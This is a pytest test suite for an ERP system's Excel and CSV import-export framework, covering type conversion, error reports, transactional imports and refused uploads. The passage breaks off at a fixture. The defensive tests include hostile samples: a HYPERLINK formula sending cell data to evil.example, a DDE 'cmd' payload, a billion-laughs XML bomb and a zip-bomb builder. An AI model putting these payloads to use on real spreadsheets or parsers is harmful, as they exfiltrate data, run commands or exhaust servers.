"""Tests for the core Excel import/export framework (erp.core.excel)."""

import io
import math
import random
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal
from types import SimpleNamespace

import openpyxl
import pytest
import xlsxwriter

from erp.core.excel import (
    FORMULA_PREFIXES,
    MAX_UPLOAD_BYTES,
    CellError,
    Column,
    FileRefused,
    RowError,
    Spec,
    check_upload,
    error_report_workbook,
    export_workbook,
    find_duplicates,
    neutralise,
    read_workbook,
    run_import,
    template_workbook,
)
from erp.core.excel import reading as excel_reading


def _positive(value):
    if value <= 0:
        raise ValueError("must be more than zero")
    return value


def _upper(value):
    return value.upper()


SPEC = Spec(
    name="skus",
    title="SKUs",
    columns=(
        Column("code", "SKU code", required=True, unique=True, validator=_upper,
               help="Your own code"),
        Column("barcode", "Barcode"),
        Column("weight", "Weight (g)", type="int", validator=_positive),
        Column("cost", "Unit cost", type="decimal", decimals=4),
        Column("since", "Available from", type="date"),
        Column("active", "Active", type="bool"),
        Column("kind", "Kind", choices=("Simple", "Bundle")),
    ),
)
HEADERS = [column.header for column in SPEC.columns]


def xlsx(rows, title="SKUs"):
    """Build an .xlsx upload with openpyxl from a list of rows (lists of cell values)."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def load(data):
    """Open workbook bytes with openpyxl."""
    return openpyxl.load_workbook(io.BytesIO(data))


def error_map(errors):
    """Return {(row, column): message} for comparing errors."""
    return {(error.row, error.column): error.message for error in errors}


class FakeTransaction:
    """A context manager factory recording whether it committed or rolled back."""

    def __init__(self):
        """Start with no transaction opened."""
        self.events = []

    def __call__(self):
        """Open a transaction."""
        self.events.append("begin")
        return self

    def __enter__(self):
        """Enter the transaction."""
        return self

    def __exit__(self, exc_type, exc, tb):
        """Record the outcome; never swallow the exception."""
        self.events.append("commit" if exc_type is None else f"rollback:{exc_type.__name__}")
        return False


# --------------------------------------------------------------------------- declarations


def test_column_with_unknown_type_fails():
    """A typo in a column type fails when the spec is declared."""
    with pytest.raises(ValueError, match="unknown type"):
        Column("x", "X", type="float")


def test_spec_with_duplicate_column_names_fails():
    """Two columns answering to the same header would make uploads ambiguous."""
    with pytest.raises(ValueError, match="used twice"):
        Spec("x", "X", (Column("code", "Code"), Column("sku", "code")))


def test_spec_column_lookup():
    """Spec.column finds a column by key and raises KeyError otherwise."""
    assert SPEC.column("weight").header == "Weight (g)"
    with pytest.raises(KeyError):
        SPEC.column("nope")


def test_cell_error_text_names_row_and_column():
    """A CellError reads as the user needs it."""
    assert str(CellError(7, "Weight (g)", "must be a whole number, got 12.5")) == (
        'Row 7, column "Weight (g)": must be a whole number, got 12.5')
    assert str(CellError(3, "", "duplicate order")) == "Row 3: duplicate order"
    assert str(CellError(0, "", "unreadable")) == "unreadable"


# --------------------------------------------------------------------------- neutralise


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_neutralise_dangerous_prefix(prefix):
    """Every prefix a spreadsheet may run as a formula gets an apostrophe."""
    assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize("value", ["SKU-1", "a=b", "", " =x", 12, None, Decimal("-1")])
def test_neutralise_leaves_safe_values_alone(value):
    """Safe text and non-text values are returned unchanged."""
    assert neutralise(value) == value


# --------------------------------------------------------------------------- export


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_export_neutralises_formula_injection(prefix):
    """A dangerous string is exported as plain text with an apostrophe, never a formula."""
    payload = prefix + 'HYPERLINK("http://evil.example/?x="&A1,"click")'
    data = export_workbook(SPEC, [{"code": payload, "barcode": payload, "kind": payload}])
    sheet = load(data)["SKUs"]
    for cell in sheet[2][:2] + (sheet["G2"],):
        assert cell.data_type == "s"
        # openpyxl leaves Excel's escape of a CR (_x000D_) in inline strings undecoded
        assert cell.value.replace("_x000D_", "\r") == "'" + payload
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    # calamine decodes the escape; the import gives back exactly what was exported
    again = read_workbook(export_workbook(SPEC, [{"code": "a", "barcode": payload}]), SPEC)
    assert again.rows[0]["barcode"] == payload


def test_export_adhoc_headers_neutralise_and_never_write_formulas():
    """Ad-hoc list exports, given (key, header) pairs, are just as safe."""
    rows = [{"name": "=1+1", "qty": 3}, {"name": "@SUM(A1)", "qty": -2}]
    sheet = load(export_workbook([("name", "Name"), ("qty", "Quantity")], rows,
                                 title="Stock"))["Stock"]
    assert [c.value for c in sheet[1]] == ["Name", "Quantity"]
    assert sheet["A2"].value == "'=1+1"
    assert sheet["A2"].data_type == "s"
    assert sheet["A3"].value == "'@SUM(A1)"
    assert sheet["B3"].value == -2  # numbers stay numbers, even negative ones


def test_export_layout_and_number_formats():
    """Bold frozen header, autofilter, widths and per-type number formats."""
    rows = [{"code": "A1", "weight": 219, "cost": Decimal("1.2345"),
             "since": date(2026, 1, 31), "active": True}]
    sheet = load(export_workbook(SPEC, rows))["SKUs"]
    assert [c.value for c in sheet[1]] == HEADERS
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:G2"
    assert sheet.column_dimensions["A"].width >= 16
    assert sheet["C2"].number_format == "0"
    assert sheet["D2"].number_format == "0.0000"
    assert sheet["D2"].value == pytest.approx(1.2345)
    assert sheet["E2"].number_format == "yyyy-mm-dd"
    assert sheet["E2"].value == datetime(2026, 1, 31)
    assert sheet["F2"].value is True


def test_export_reads_objects_and_sequences():
    """Rows may be objects (attributes, dotted paths) or plain sequences."""
    columns = [Column("code", "Code"), Column("supplier.name", "Supplier")]
    objects = [SimpleNamespace(code="A", supplier=SimpleNamespace(name="ACME")),
               SimpleNamespace(code="B", supplier=None)]
    sheet = load(export_workbook(columns, objects))["Export"]
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [
        ["A", "ACME"], ["B", None]]
    sheet = load(export_workbook([("a", "A"), ("b", "B")], [("x", 1), ["y", 2.5]]))["Export"]
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [
        ["x", 1], ["y", 2.5]]


def test_export_without_columns_fails():
    """An export needs columns."""
    with pytest.raises(ValueError, match="at least one column"):
        export_workbook([], [])


# --------------------------------------------------------------------------- round trip


def test_round_trip_every_type():
    """What an export writes, an import reads back unchanged, type by type."""
    rows = [
        {"code": "A-1", "barcode": "0012345678905", "weight": 219, "cost": Decimal("0.1000"),
         "since": date(2026, 1, 31), "active": True, "kind": "Simple"},
        {"code": "B-2", "barcode": "-5", "weight": 1, "cost": Decimal("12.3456"),
         "since": None, "active": False, "kind": "Bundle"},
        {"code": "C-3", "barcode": "=1+1", "weight": None, "cost": None,
         "since": date(1999, 12, 31), "active": None, "kind": None},
    ]
    result = read_workbook(export_workbook(SPEC, rows), SPEC)
    assert result.ok, result.errors
    assert [{k: v for k, v in row.items() if k != "_row"} for row in result.rows] == rows
    assert [row["_row"] for row in result.rows] == [2, 3, 4]
    assert result.present == tuple(column.key for column in SPEC.columns)


def test_round_trip_20000_rows():
    """A large export is read back completely and exactly."""
    rows = [{"code": f"SKU-{i:05d}", "barcode": f"{i:013d}", "weight": i + 1,
             "cost": Decimal(i) / 100, "since": date(2026, 1, 1 + i % 28),
             "active": i % 2 == 0, "kind": "Simple"} for i in range(20_000)]
    result = read_workbook(export_workbook(SPEC, rows), SPEC)
    assert result.ok, result.errors[:3]
    assert len(result.rows) == 20_000
    assert result.rows[-1] == {"_row": 20_001, **rows[-1]}
    assert result.rows[12_345]["cost"] == Decimal("123.45")


# --------------------------------------------------------------------------- conversion


def test_calamine_whole_floats_become_int_and_text():
    """Numeric 219 in an int column is 219, numeric 12345 in a text column is "12345"."""
    result = read_workbook(xlsx([["SKU code", "Barcode", "Weight (g)"],
                                 ["a1", 12345, 219],
                                 ["a2", 4006381333931, 1.0]]), SPEC)
    assert result.ok, result.errors
    first, second = result.rows
    assert first["weight"] == 219
    assert type(first["weight"]) is int
    assert first["barcode"] == "12345"
    assert first["code"] == "A1"  # the validator normalised it
    assert second["barcode"] == "4006381333931"
    assert second["weight"] == 1


def test_int_column_rejects_fractions_and_text():
    """Whole-number columns name the bad value."""
    result = read_workbook(xlsx([["SKU code", "Weight (g)"],
                                 ["a", 219.5], ["b", "12.5"], ["c", "1,234"], ["d", True],
                                 ["e", "219.0"], ["f", -3]]), SPEC)
    assert error_map(result.errors) == {
        (2, "Weight (g)"): "must be a whole number, got 219.5",
        (3, "Weight (g)"): "must be a whole number, got 12.5",
        (4, "Weight (g)"): 'must be a whole number, got "1,234"',
        (5, "Weight (g)"): "must be a whole number, got TRUE",
        (7, "Weight (g)"): "must be more than zero",
    }
    assert [(row["_row"], row["weight"]) for row in result.rows] == [(6, 219)]


def test_text_column_rejects_numbers_excel_rounded():
    """A 16-digit number typed into Excel has lost digits: say so instead of importing it."""
    result = read_workbook(xlsx([["SKU code", "Barcode"], ["a", 1234567890123456]]), SPEC)
    assert list(error_map(result.errors)) == [(2, "Barcode")]
    assert "more than 15 digits" in result.errors[0].message


def test_decimals_are_exact():
    """Decimals come from the cell's digits, never from float arithmetic."""
    result = read_workbook(xlsx([["SKU code", "Unit cost"], ["a", 0.1], ["b", 0.2],
                                 ["c", 0.1 + 0.2], ["d", "1234.5678"], ["e", 7]]), SPEC)
    assert result.ok, result.errors
    costs = [row["cost"] for row in result.rows]
    assert all(isinstance(cost, Decimal) for cost in costs)
    assert costs[0] + costs[1] == Decimal("0.3")
    assert costs[2] == Decimal("0.3")  # Excel keeps 15 significant digits
    assert costs[3] == Decimal("1234.5678")
    assert costs[4] == Decimal(7)


def test_decimal_column_rejects_text_and_comma():
    """A comma decimal separator gets a hint; other text is rejected."""
    result = read_workbook(xlsx([["SKU code", "Unit cost"], ["a", "1,5"], ["b", "abc"],
                                 ["c", "NaN"]]), SPEC)
    assert error_map(result.errors) == {
        (2, "Unit cost"): 'must be a number (use a dot as the decimal separator), got "1,5"',
        (3, "Unit cost"): 'must be a number, got "abc"',
        (4, "Unit cost"): 'must be a number, got "NaN"',
    }


def test_dates_from_cells_and_iso_text():
    """Date cells, datetime cells and ISO text are dates; other text is an error."""
    result = read_workbook(xlsx([["SKU code", "Available from"],
                                 ["a", date(2026, 1, 31)], ["b", datetime(2026, 2, 1, 13, 5)],
                                 ["c", "2026-03-01"], ["d", "31/01/2026"], ["e", "2026-02-30"]]),
                           SPEC)
    assert [row["since"] for row in result.rows] == [
        date(2026, 1, 31), date(2026, 2, 1), date(2026, 3, 1)]
    assert error_map(result.errors) == {
        (5, "Available from"): 'must be a date as YYYY-MM-DD, got "31/01/2026"',
        (6, "Available from"): 'must be a date as YYYY-MM-DD, got "2026-02-30"',
    }


@pytest.mark.parametrize(("cell", "expected"), [
    ("yes", True), ("Y", True), ("TRUE", True), ("1", True), (1, True), (True, True),
    ("no", False), ("n", False), ("False", False), ("0", False), (0, False), (False, False),
])
def test_bool_words(cell, expected):
    """Yes/no columns accept the usual spellings and Excel booleans."""
    result = read_workbook(xlsx([["SKU code", "Active"], ["a", cell]]), SPEC)
    assert result.ok, result.errors
    assert result.rows[0]["active"] is expected


def test_bool_rejects_other_words():
    """Anything else in a yes/no column is an error."""
    result = read_workbook(xlsx([["SKU code", "Active"], ["a", "maybe"], ["b", 2]]), SPEC)
    assert error_map(result.errors) == {(2, "Active"): 'must be yes or no, got "maybe"',
                                        (3, "Active"): "must be yes or no, got 2"}


def test_choices_match_case_insensitively_and_normalise():
    """Choices are matched ignoring case and returned as declared."""
    result = read_workbook(xlsx([["SKU code", "Kind"], ["a", " bundle "], ["b", "SIMPLE"],
                                 ["c", "kit"]]), SPEC)
    assert [row["kind"] for row in result.rows] == ["Bundle", "Simple"]
    assert error_map(result.errors) == {(4, "Kind"): 'must be one of: Simple, Bundle; got "kit"'}


def test_required_and_validator_errors_are_all_collected():
    """Every error of every row is reported with its row and column; good rows survive."""
    result = read_workbook(xlsx([HEADERS,
                                 ["ok", None, 10],
                                 [None, "x", 12.5, "abc"],
                                 ["  ", None, 0, None, None, "perhaps"],
                                 ["ok2", None, 5]]), SPEC)
    assert error_map(result.errors) == {
        (3, "SKU code"): "is required",
        (3, "Weight (g)"): "must be a whole number, got 12.5",
        (3, "Unit cost"): 'must be a number, got "abc"',
        (4, "SKU code"): "is required",
        (4, "Weight (g)"): "must be more than zero",
        (4, "Active"): 'must be yes or no, got "perhaps"',
    }
    assert [row["code"] for row in result.rows] == ["OK", "OK2"]
    assert not result.ok


def test_text_is_stripped_and_neutralised_text_restored():
    """Cells are trimmed, and an exported apostrophe guard is removed on the way back."""
    result = read_workbook(xlsx([["SKU code", "Barcode"], ["  a  ", "'+44 20 7946 0000"],
                                 ["b", "'plain"]]), SPEC)
    assert [(row["code"], row["barcode"]) for row in result.rows] == [
        ("A", "+44 20 7946 0000"), ("B", "'plain")]


# --------------------------------------------------------------------------- structure


def test_headers_match_loosely_keys_accepted_unknown_ignored():
    """Headers ignore case and spacing, keys work as headers, extra columns are ignored."""
    result = read_workbook(xlsx([["  sku   CODE ", "weight", "Notes"], ["a", 3, "n/a"]]), SPEC)
    assert result.ok, result.errors
    assert result.present == ("code", "weight")
    assert result.rows == [{"_row": 2, "code": "A", "weight": 3, "barcode": None,
                            "cost": None, "since": None, "active": None, "kind": None}]


def test_missing_required_header_is_one_error_and_no_rows():
    """A missing required column stops the import before any row is read."""
    result = read_workbook(xlsx([["Barcode", "Weight (g)"], ["1", 2]]), SPEC)
    assert result.rows == []
    assert error_map(result.errors) == {(1, ""): 'missing required columns: "SKU code"'}


def test_duplicate_header_is_an_error():
    """The same column twice is ambiguous."""
    result = read_workbook(xlsx([["SKU code", "code"], ["a", "b"]]), SPEC)
    assert error_map(result.errors) == {(1, ""): 'the column "SKU code" appears twice'}


def test_title_rows_above_the_header_keep_row_numbers():
    """A title line above the header is skipped and rows keep their sheet numbers."""
    result = read_workbook(xlsx([["Price list March"], [], ["SKU code", "Weight (g)"],
                                 ["a", 1], ["b", "x"]]), SPEC)
    assert [row["_row"] for row in result.rows] == [4]
    assert error_map(result.errors) == {(5, "Weight (g)"): 'must be a whole number, got "x"'}


def test_blank_rows_are_skipped():
    """Fully blank rows (including cells holding spaces) are skipped, numbering unchanged."""
    result = read_workbook(xlsx([["SKU code", "Weight (g)"], ["a", 1], [None, None],
                                 ["   ", ""], ["b", 2]]), SPEC)
    assert result.ok, result.errors
    assert [(row["_row"], row["code"]) for row in result.rows] == [(2, "A"), (5, "B")]


def test_empty_sheet_and_header_only_are_errors():
    """An empty file or one without data rows is reported, not silently accepted."""
    assert "empty" in read_workbook(xlsx([]), SPEC).errors[0].message
    result = read_workbook(xlsx([["SKU code"]]), SPEC)
    assert error_map(result.errors) == {(1, ""): "the file has no data rows below the header"}


def test_sheet_named_like_the_spec_is_preferred():
    """A workbook with several sheets is read from the one titled like the spec."""
    workbook = openpyxl.Workbook()
    workbook.active.append(["Notes"])
    workbook.create_sheet("skus").append(["SKU code"])
    workbook["skus"].append(["a"])
    output = io.BytesIO()
    workbook.save(output)
    assert [row["code"] for row in read_workbook(output.getvalue(), SPEC).rows] == ["A"]


def test_max_rows_enforced():
    """More data rows than the spec allows is a file-level error."""
    small = Spec("s", "S", (Column("code", "Code"),), max_rows=3)
    assert read_workbook(xlsx([["Code"], ["a"], ["b"], ["c"]]), small).ok
    result = read_workbook(xlsx([["Code"], ["a"], ["b"], [None], ["c"], ["d"]]), small)
    assert result.rows == []
    assert error_map(result.errors) == {
        (0, ""): "the file has more than 3 data rows; split it into smaller files"}


def test_unreadable_uploads_are_errors():
    """Garbage, unknown types and non-UTF-8 CSV give a readable error, not an exception."""
    assert "damaged or not a complete .xlsx" in read_workbook(b"PK\x03\x04junk",
                                                              SPEC).errors[0].message
    assert "Upload an Excel workbook (.xlsx or .xlsm) or a CSV file (.csv)." in read_workbook(
        b"x", SPEC, filename="a.pdf").errors[0].message
    latin1 = "SKU code\nCaf\xe9\n".encode("latin-1")
    assert "UTF-8" in read_workbook(latin1, SPEC, filename="a.csv").errors[0].message


# --------------------------------------------------------------------------- CSV


def test_csv_semicolon_with_bom():
    """Excel's "CSV UTF-8" with semicolons (European locales) is read, BOM and all."""
    text = "SKU code;Weight (g);Unit cost;Available from;Kind\r\n" \
           "é-1;219;0.1;2026-01-31;simple\r\n;;;;\r\n\"b;2\";12.5;x;;\r\n"
    result = read_workbook(b"\xef\xbb\xbf" + text.encode("utf-8"), SPEC, filename="SKUS.CSV")
    assert result.rows == [{"_row": 2, "code": "É-1", "weight": 219, "cost": Decimal("0.1"),
                            "since": date(2026, 1, 31), "kind": "Simple", "barcode": None,
                            "active": None}]
    assert error_map(result.errors) == {(4, "Weight (g)"): "must be a whole number, got 12.5",
                                        (4, "Unit cost"): 'must be a number, got "x"'}


def test_csv_comma_and_tab():
    """Comma and tab delimiters are recognised from the header line."""
    comma = read_workbook(b'SKU code,Barcode\n"a,1",0042\n', SPEC, filename="x.csv")
    assert [(r["code"], r["barcode"]) for r in comma.rows] == [("A,1", "0042")]
    tab = read_workbook(b"SKU code\tWeight (g)\na\t7\n", SPEC, filename="x.csv")
    assert [(r["code"], r["weight"]) for r in tab.rows] == [("A", 7)]


# --------------------------------------------------------------------------- template


def test_template_has_headers_and_help_sheet():
    """The template is the header row plus a Help sheet describing every column."""
    workbook = load(template_workbook(SPEC))
    assert workbook.sheetnames == ["SKUs", "Help"]
    assert [c.value for c in workbook["SKUs"][1]] == HEADERS
    assert workbook["SKUs"]["A1"].comment is not None
    help_rows = [[c.value for c in row] for row in workbook["Help"].iter_rows()]
    assert help_rows[0] == ["Column", "Type", "Required", "Unique", "Allowed values", "Help"]
    assert help_rows[1] == ["SKU code", "text", "yes", "yes", None, "Your own code"]
    assert help_rows[3][:3] == ["Weight (g)", "whole number", "no"]
    assert help_rows[7][4] == "Simple, Bundle"
    empty = read_workbook(template_workbook(SPEC), SPEC)
    assert error_map(empty.errors) == {(1, ""): "the file has no data rows below the header"}


# --------------------------------------------------------------------------- error report


def test_error_report_marks_cells_and_adds_errors_column():
    """Bad cells turn light red; each row's messages land in a last "Errors" column."""
    upload = xlsx([["SKU code", "Weight (g)", "Notes"], ["a", 12.5, "keep me"], ["b", 1],
                   ["c", "x"]])
    errors = [*read_workbook(upload, SPEC).errors, CellError(3, "", "SKU B already exists")]
    sheet = load(error_report_workbook(upload, SPEC, errors))["SKUs"]
    assert [c.value for c in sheet[1]] == ["SKU code", "Weight (g)", "Notes", "Errors"]
    assert sheet["B2"].fill.fgColor.rgb.endswith("FFC7CE")
    assert sheet["B4"].fill.fgColor.rgb.endswith("FFC7CE")
    assert sheet["A2"].fill.fill_type is None
    assert sheet["D2"].value == "Weight (g): must be a whole number, got 12.5"
    assert sheet["D3"].value == "SKU B already exists"
    assert sheet["C2"].value == "keep me"
    # the user fixes the report and uploads it again: the old marks go
    again = load(error_report_workbook(_saved(sheet.parent), SPEC, [CellError(3, "Weight (g)",
                                                                              "too heavy")]))
    sheet = again["SKUs"]
    assert [c.value for c in sheet[1]] == ["SKU code", "Weight (g)", "Notes", "Errors"]
    assert sheet["B2"].fill.fill_type is None
    assert sheet["D2"].value is None
    assert sheet["B3"].fill.fgColor.rgb.endswith("FFC7CE")
    assert sheet["D3"].value == "Weight (g): too heavy"


def _saved(workbook):
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def test_error_report_for_missing_header():
    """Header-level errors go in the Errors header cell."""
    upload = xlsx([["Barcode"], ["1"]])
    sheet = load(error_report_workbook(upload, SPEC, read_workbook(upload, SPEC).errors)).active
    assert sheet["B1"].value == 'Errors\nmissing required columns: "SKU code"'


def test_error_report_from_csv_is_xlsx_and_safe():
    """A CSV upload comes back as .xlsx, with its text never turned into formulas."""
    upload = b"SKU code;Weight (g)\n=cmd|' /C calc'!A0;x\n"
    errors = read_workbook(upload, SPEC, filename="o.csv").errors
    sheet = load(error_report_workbook(upload, SPEC, errors, filename="o.csv"))["SKUs"]
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].value == "'=cmd|' /C calc'!A0"
    assert sheet["B2"].fill.fgColor.rgb.endswith("FFC7CE")
    assert sheet["C2"].value == 'Weight (g): must be a whole number, got "x"'


# --------------------------------------------------------------------------- run_import


def _apply_recorder(result=None):
    calls = []

    def apply(rows):
        calls.append(rows)
        return result if result is not None else {"created": len(rows)}

    return apply, calls


GOOD = [["SKU code", "Weight (g)"], ["a", 1], ["b", 2]]


def test_run_import_dry_run_never_applies():
    """A dry run validates everything and writes nothing."""
    apply, calls = _apply_recorder()
    checked = []
    result = run_import(xlsx(GOOD), SPEC, apply=apply, dry_run=True,
                        validate_row=lambda row: checked.append(row["code"]))
    assert result.ok
    assert result.dry_run
    assert result.row_count == 2
    assert checked == ["A", "B"]
    assert calls == []
    assert result.created == 0


def test_run_import_with_errors_never_applies():
    """Cell errors, domain errors and in-file duplicates all block the import."""
    apply, calls = _apply_recorder()
    transaction = FakeTransaction()

    def validate(row):
        if row["code"] == "B":
            return [CellError(row["_row"], "SKU code", "already exists")]
        return None

    upload = xlsx([["SKU code", "Weight (g)"], ["a", 1], ["b", 2], ["c", 1.5], [" A ", 3]])
    result = run_import(upload, SPEC, apply=apply, dry_run=False, validate_row=validate,
                        transaction=transaction)
    assert error_map(result.errors) == {
        (3, "SKU code"): "already exists",
        (4, "Weight (g)"): "must be a whole number, got 1.5",
        (5, "SKU code"): '"A" is also in row 2',
    }
    assert [error.row for error in result.errors] == [3, 4, 5]
    assert calls == []
    assert transaction.events == []


def test_run_import_applies_in_transaction():
    """A clean file is applied once, inside the transaction, and the counts are returned."""
    apply, calls = _apply_recorder({"created": 1, "updated": 1, "skipped": 0,
                                    "messages": ["2 SKUs imported"]})
    transaction = FakeTransaction()
    result = run_import(xlsx(GOOD), SPEC, apply=apply, dry_run=False, transaction=transaction)
    assert result.ok
    assert (result.created, result.updated, result.skipped) == (1, 1, 0)
    assert result.messages == ["2 SKUs imported"]
    assert [row["code"] for row in calls[0]] == ["A", "B"]
    assert transaction.events == ["begin", "commit"]


def test_run_import_value_error_rolls_back():
    """A ValueError from apply becomes an error, after the transaction saw it."""
    transaction = FakeTransaction()

    def apply(rows):
        raise ValueError("supplier ACME is blocked")

    result = run_import(xlsx(GOOD), SPEC, apply=apply, dry_run=False, transaction=transaction)
    assert error_map(result.errors) == {(0, ""): "supplier ACME is blocked"}
    assert transaction.events == ["begin", "rollback:ValueError"]
    assert not result.ok
    assert result.created == 0


def test_run_import_row_error_keeps_row_and_column():
    """An exception carrying .row and .column points at the cell."""
    transaction = FakeTransaction()

    def apply(rows):
        raise RowError("no such warehouse", row=rows[1]["_row"], column="SKU code")

    result = run_import(xlsx(GOOD), SPEC, apply=apply, dry_run=False, transaction=transaction)
    assert error_map(result.errors) == {(3, "SKU code"): "no such warehouse"}
    assert transaction.events == ["begin", "rollback:RowError"]


def test_run_import_other_exceptions_propagate_after_rollback():
    """A bug is not turned into a user message; the transaction still rolls back."""
    transaction = FakeTransaction()

    def apply(rows):
        raise KeyError("bug")

    with pytest.raises(KeyError, match="bug"):
        run_import(xlsx(GOOD), SPEC, apply=apply, dry_run=False, transaction=transaction)
    assert transaction.events == ["begin", "rollback:KeyError"]


def test_run_import_custom_error_types_and_validate_row_exceptions():
    """Domain exception types can be declared user errors, in validate_row as well."""

    class DomainError(Exception):
        pass

    def validate(row):
        if row["code"] == "B":
            raise DomainError("SKU B is retired")

    apply, calls = _apply_recorder()
    result = run_import(xlsx(GOOD), SPEC, apply=apply, dry_run=False, validate_row=validate,
                        error_types=(DomainError,))
    assert error_map(result.errors) == {(3, ""): "SKU B is retired"}
    assert calls == []


def test_find_duplicates_ignores_empty_values():
    """Empty values never count as duplicates."""
    rows = [{"_row": 2, "code": None}, {"_row": 3, "code": None}, {"_row": 4, "code": "x"}]
    assert find_duplicates(rows, SPEC) == []


# --------------------------------------------------------------------------- refused uploads

MB = 1024 * 1024
ACCEPTED = "Upload an Excel workbook (.xlsx or .xlsm) or a CSV file (.csv)."
ENCRYPTED = ("This workbook is password-protected; remove the password in Excel "
             "(File > Info > Protect Workbook) and upload it again.")
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
BILLION_LAUGHS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(b' <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
               for i in range(1, 10))
    + b']>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
    b'uniqueCount="1"><si><t>&lol9;</t></si></sst>')


def rezip(data, *, replace=None, drop=(), add=None):
    """Rebuild a zip (an .xlsx) with some parts replaced, dropped or added."""
    replace = replace or {}
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, \
            zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        assert set(replace) <= set(source.namelist())
        for info in source.infolist():
            if info.filename not in drop:
                target.writestr(info.filename, replace.get(info.filename,
                                                           source.read(info.filename)))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return output.getvalue()


def shared_xlsx(rows):
    """Build an .xlsx whose text sits in xl/sharedStrings.xml, as Excel writes it."""
    output = io.BytesIO()
    workbook = xlsxwriter.Workbook(output)
    sheet = workbook.add_worksheet("SKUs")
    for index, row in enumerate(rows):
        sheet.write_row(index, 0, row)
    workbook.close()
    return output.getvalue()


def ole_file(*streams):
    """Minimal bytes of an OLE compound document naming the given streams in its directory."""
    directory = b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in streams)
    return OLE_MAGIC + b"\0" * 504 + directory.ljust(1024, b"\0")


def zip_bomb():
    """An .xlsx holding a 100 MB part of zeros, which deflate packs about 1,000 times."""
    output = io.BytesIO(rezip(xlsx(GOOD)))
    with zipfile.ZipFile(output, "a", zipfile.ZIP_DEFLATED) as archive, \
            archive.open("xl/media/image1.png", "w") as part:
        chunk = b"\0" * MB
        for _ in range(100):
            part.write(chunk)
    return output.getvalue()


def plain_zip(**parts):
    """A zip holding the given parts (names with "/" spelled "__")."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/"), content)
    return output.getvalue()


REFUSED = {
    "random bytes": (random.Random(3).randbytes(4096), "data.xlsx",
                     '"data.xlsx" cannot be imported (it is not in the .xlsx format: it may be '
                     f"damaged, or another kind of file renamed). {ACCEPTED}"),
    "png": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(64), "skus.xlsx",
            f'"skus.xlsx" cannot be imported (it is a PNG image). {ACCEPTED}'),
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "skus.pdf",
            f'"skus.pdf" cannot be imported (it is a PDF document). {ACCEPTED}'),
    "exe renamed": (b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff" + bytes(64), "skus.xlsx",
                    f'"skus.xlsx" cannot be imported (it is a Windows program). {ACCEPTED}'),
    "binary csv": (b"SKU code\n\0\0\x01\x02", "skus.csv",
                   f'"skus.csv" cannot be imported (it is not a text file). {ACCEPTED}'),
    "text as pdf": (b"SKU code\nA\n", "skus.pdf", f'"skus.pdf" cannot be imported. {ACCEPTED}'),
    "docx": (plain_zip(**{"[Content_Types].xml": "<Types/>", "word__document.xml": "<w/>"}),
             "skus.xlsx", f'"skus.xlsx" cannot be imported (it is a Word document). {ACCEPTED}'),
    "zip": (plain_zip(**{"skus.xlsx": b"PK"}), "skus.zip",
            f'"skus.zip" cannot be imported (it is a zip archive, not an Excel workbook). '
            f"{ACCEPTED}"),
    "ods": (plain_zip(mimetype="application/vnd.oasis.opendocument.spreadsheet",
                      **{"content.xml": "<office/>"}), "skus.ods",
            '"skus.ods" cannot be imported (an OpenDocument spreadsheet must be saved as '
            f'"Excel Workbook (.xlsx)" first). {ACCEPTED}'),
    "xlsb": (plain_zip(**{"[Content_Types].xml": "<Types/>", "xl__workbook.bin": b"\0"}),
             "skus.xlsb", '"skus.xlsb" cannot be imported (an Excel binary workbook must be '
                          f'saved as "Excel Workbook (.xlsx)" first). {ACCEPTED}'),
    "xls text": (b"<html><table></table></html>", "skus.xls",
                 '"skus.xls" cannot be imported (an Excel 97-2003 file must be saved as '
                 f'"Excel Workbook (.xlsx)" first). {ACCEPTED}'),
    "empty": (b"", "skus.xlsx", f"The file is empty. {ACCEPTED}"),
    "truncated": (xlsx(GOOD)[:2000], "skus.xlsx",
                  "The file is damaged or not a complete .xlsx workbook (it may have been cut "
                  "off while downloading or copying). Open it in Excel, save it again and upload "
                  "it again."),
    "encrypted": (ole_file("Root Entry", "EncryptionInfo", "EncryptedPackage"), "skus.xlsx",
                  ENCRYPTED),
    "legacy xls": (ole_file("Root Entry", "Workbook"), "skus.xls",
                   "This is an Excel 97-2003 workbook (.xls), another old-format Office file or "
                   "a password-protected workbook, which cannot be imported. Open it in Excel, "
                   "remove any password (File > Info > Protect Workbook), save it as "
                   '"Excel Workbook (.xlsx)" and upload that.'),
    "xml bomb": (rezip(shared_xlsx(GOOD),
                       replace={"xl/sharedStrings.xml": BILLION_LAUGHS}), "skus.xlsx",
                 'The workbook part "xl/sharedStrings.xml" declares a DOCTYPE or ENTITY, which '
                 'Excel never writes; it was refused as a possible "XML bomb".'),
    "oversized": (b"SKU code\n" + b"A\n" * (25 * MB // 2), "skus.csv",
                  "The file is 25.1 MB; the limit is 25 MB. Split it into smaller files."),
}


@pytest.fixture
def no_reader(monkeypatch):
